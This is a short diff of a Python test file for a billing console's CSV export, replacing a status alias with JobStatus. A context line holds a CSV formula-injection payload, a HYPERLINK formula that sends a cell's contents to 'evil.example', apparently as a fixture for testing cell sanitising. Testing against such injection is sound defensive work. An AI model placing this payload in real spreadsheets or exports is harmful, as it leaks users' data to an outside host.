@@ -21,7 +21,8 @@ from billing import charts, services
 from billing.metering import meter_tick
 from billing.models import Budget
 from console.csv import csv_safe, csv_writer
-from tests.billing.conftest import S, make_job, set_status
+from jobs.models import JobStatus
+from tests.billing.conftest import make_job, set_status
 from tests.conftest import signed_in_client, token_client
 
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
@@ -64,8 +65,8 @@ def test_the_writer_applies_it_to_every_cell():
 def _ran_for_an_hour(world, name: str, project: str = ""):
     now = timezone.now().replace(microsecond=0)
     job = make_job(world, name=name, project=project, start=now - timedelta(hours=3))
-    set_status(job, S.RUNNING, now - timedelta(hours=2))
-    set_status(job, S.SUCCEEDED, now - timedelta(hours=1))
+    set_status(job, JobStatus.RUNNING, now - timedelta(hours=2))
+    set_status(job, JobStatus.SUCCEEDED, now - timedelta(hours=1))
     meter_tick(now=now)
     return now
 
